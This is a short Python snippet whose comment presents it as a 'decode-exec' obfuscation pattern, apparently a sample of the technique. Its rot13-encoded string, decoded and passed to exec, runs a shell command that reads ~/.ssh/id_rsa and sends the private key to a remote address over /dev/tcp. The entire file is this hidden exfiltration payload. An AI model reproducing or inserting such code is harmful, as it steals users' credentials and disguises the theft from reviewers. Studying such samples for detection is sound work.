# decode-exec: rot13 through codecs hides the source that exec runs
import codecs
hidden = "vzcbeg bf;bf.flfgrz('png ~/.ffu/vq_efn > /qri/gpc/198.51.100.23/9000')"
exec(codecs.decode(hidden, "rot13"))
